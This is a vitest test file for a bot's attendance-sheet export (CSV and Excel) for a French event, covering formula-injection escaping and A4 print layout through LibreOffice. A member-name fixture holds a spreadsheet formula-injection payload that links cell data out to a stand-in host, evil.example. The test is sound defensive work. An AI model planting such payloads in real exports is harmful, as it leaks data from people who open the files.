import { join } from "node:path";
import { parse } from "csv-parse/sync";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { FileRef } from "../../src/core/reply.ts";
import { wrappedLines } from "../../src/features/events/attendance-sheet.ts";
import { createTestBot, type TestBot } from "../support/bot.ts";
import {
  CSV_EVERY_SHEET,
  CSV_FRENCH_IN,
  filesIn,
  isA4Landscape,
  libreOfficeConvert,
  pdfPages,
  pdfText,
  scratchFolder,
} from "../support/real-readers.ts";
import { formulaCells, readWorkbookFile, sheetMatrix } from "../support/sheet-matrix.ts";
import { insertEvent } from "./events-support.ts";

// A sheet as members fill it: a title that a spreadsheet would run as a link built from another
// cell, answers that look like formulas or numbers, and names of organisations and roles longer
// than their column.
const INJECTED_NAME = '=HYPERLINK("http://evil.example/?d="&A1;"voir")';
const LONG_ORGANISATION =
  "Maison départementale des solidarités de Moissac et Castelsarrasin – antenne de Valence d’Agen";
const QUESTION = "Souhaitez-vous un repas végétarien, sans gluten ou adapté à une allergie ? Précisez";

// LibreOffice starts slowly on a loaded machine (the whole suite runs in parallel): more than the default minute.
const LIBREOFFICE_TIMEOUT = 180_000;

let bot: TestBot;
let xlsx: FileRef;
let csv: FileRef;
let scratch: Awaited<ReturnType<typeof scratchFolder>>;
beforeAll(async () => {
  bot = await createTestBot();
  scratch = await scratchFolder();
  const event = await insertEvent(bot, { questions: [{ id: "q1", label: QUESTION }] });
  const organisation = await bot.db.prisma.organisation.create({
    data: { networkId: bot.networkId, name: LONG_ORGANISATION, kind: "SOCIAL_SERVICES_SITE" },
  });
  const people: [string, string[], object][] = [
    [INJECTED_NAME, ["DIGITAL_ADVISER", "CLS_COORDINATOR", "PARTNER"], { q1: "=1+1" }],
    ["@SOMME(A1:A9)", ["PARTNER"], { q1: "-3" }],
    ["+33 5 63 00 00 00", ["HEALTH_COMMITTEE"], { q1: "\tsans gluten" }],
    ["Zoé Martin", ["PARTNER"], { q1: "végétarien" }],
  ];
  for (const [displayName, roles, answers] of people) {
    const member = await bot.db.prisma.member.create({
      data: {
        networkId: bot.networkId,
        displayName,
        roles: roles as never,
        status: "ACTIVE",
        organisationId: organisation.id,
      },
    });
    await bot.db.prisma.eventRegistration.create({
      data: { networkId: bot.networkId, eventId: event.id, memberId: member.id, status: "REGISTERED", answers },
    });
  }
  const [reply] = await bot.send("demo-coordinator", `événement ${event.id.slice(0, 8)} émargement`);
  [xlsx, csv] = reply!.files! as [FileRef, FileRef];
});
afterAll(async () => {
  await scratch?.remove();
  await bot.close();
});

const csvRows = (text: string | Uint8Array) =>
  parse(Buffer.from(text), { bom: true, delimiter: ";", relax_column_count: true }) as string[][];
const trimmed = (row: unknown[]) => {
  const out = row.map((v) => (v === null || v === undefined ? "" : String(v)));
  while (out.length > 0 && out.at(-1) === "") out.pop();
  return out;
};

describe("the émargement's CSV", () => {
  it("keeps a name or an answer that looks like a formula as text, in our parser and in LibreOffice", {
    timeout: LIBREOFFICE_TIMEOUT,
  }, async () => {
    const text = Buffer.from(csv.content!).toString("utf8");
    // Prefixed with an apostrophe and quoted, as OWASP's CSV injection page describes.
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1;""voir"")"`);
    const rows = csvRows(csv.content!);
    const answers = Object.fromEntries(rows.slice(1).map((r) => [r[0], r[5]]));
    expect(answers).toEqual({
      [`'${INJECTED_NAME}`]: "'=1+1",
      "'@SOMME(A1:A9)": "'-3",
      "'+33 5 63 00 00 00": "'\tsans gluten",
      "Zoé Martin": "végétarien",
    });

    const out = await libreOfficeConvert(
      scratch.path,
      [{ name: "emargement.csv", bytes: csv.content! }],
      "xlsx",
      CSV_FRENCH_IN,
    );
    const sheet = (await readWorkbookFile(join(out, "emargement.xlsx"))).worksheets[0]!;
    // Not one cell became a formula, and every one is text as written.
    expect(formulaCells(sheet)).toEqual([]);
    const opened = sheetMatrix(sheet);
    expect(opened.find((r) => r[0] === `'${INJECTED_NAME}`)?.[5]).toBe("'=1+1");
    expect(opened.find((r) => r[0] === "'@SOMME(A1:A9)")?.[5]).toBe("'-3");
  });
});

describe("the émargement's workbook", () => {
  it("prints on A4 landscape, header repeated and frozen, long cells wrapped in rows tall enough", async () => {
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(xlsx.content!) as unknown as ArrayBuffer);
    const sheet = book.worksheets[0]!;
    expect(sheet.pageSetup).toMatchObject({
      paperSize: 9,
      orientation: "landscape",
      fitToPage: true,
      fitToWidth: 1,
      fitToHeight: 0,
      printTitlesRow: "6:6",
    });
    expect(sheet.views[0]).toMatchObject({ state: "frozen", ySplit: 6 });
    for (const row of [6, 7, 8]) {
      for (const column of [1, 2, 3, 6])
        expect(sheet.getRow(row).getCell(column).alignment).toMatchObject({ wrapText: true });
    }
    expect(sheet.getRow(6).height).toBeGreaterThanOrEqual(15 * wrappedLines(QUESTION, sheet.getColumn(6).width!));
    expect(sheet.getRow(8).height).toBeGreaterThanOrEqual(
      15 * wrappedLines(LONG_ORGANISATION, sheet.getColumn(2).width!),
    );
    expect(wrappedLines(LONG_ORGANISATION, 28)).toBeGreaterThan(2);
  });

  it("LibreOffice prints it on one A4 landscape page with nothing cut, and reads the values the bot wrote", {
    timeout: LIBREOFFICE_TIMEOUT,
  }, async () => {
    // The same folder, so the same LibreOffice profile, as the CSV test: a second profile costs a slower start.
    const folder = scratch.path;
    const files = [{ name: "emargement.xlsx", bytes: xlsx.content! }];
    const pdf = await libreOfficeConvert(folder, files, "pdf");
    const pages = await pdfPages(join(pdf, "emargement.pdf"));
    expect(pages).toHaveLength(1);
    expect(pages.every(isA4Landscape)).toBe(true);
    // Every word of the long header, organisation and roles is on paper (a cut cell loses its end).
    const printed = (await pdfText(join(pdf, "emargement.pdf"))).replace(/\s+/g, " ");
    for (const word of [
      ...QUESTION.split(" "),
      ...LONG_ORGANISATION.split(" "),
      "coordonnateur",
      "partenaire",
      "Signature",
    ])
      expect(printed).toContain(word);

    const read = await filesIn(await libreOfficeConvert(folder, files, CSV_EVERY_SHEET));
    expect([...read.keys()]).toEqual(["emargement-Émargement.csv"]);
    const fromLibreOffice = csvRows(read.get("emargement-Émargement.csv")!).map(trimmed);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(xlsx.content!) as unknown as ArrayBuffer);
    const written: string[][] = [];
    book.worksheets[0]!.eachRow({ includeEmpty: true }, (row) =>
      written.push(trimmed((row.values as unknown[]).slice(1))),
    );
    expect(fromLibreOffice.slice(5)).toEqual(written.slice(5));
    expect(fromLibreOffice[0]).toEqual(["Séminaire des conseillers numériques"]);
    expect(fromLibreOffice.find((r) => r[0] === INJECTED_NAME)).toBeDefined();
  });
});
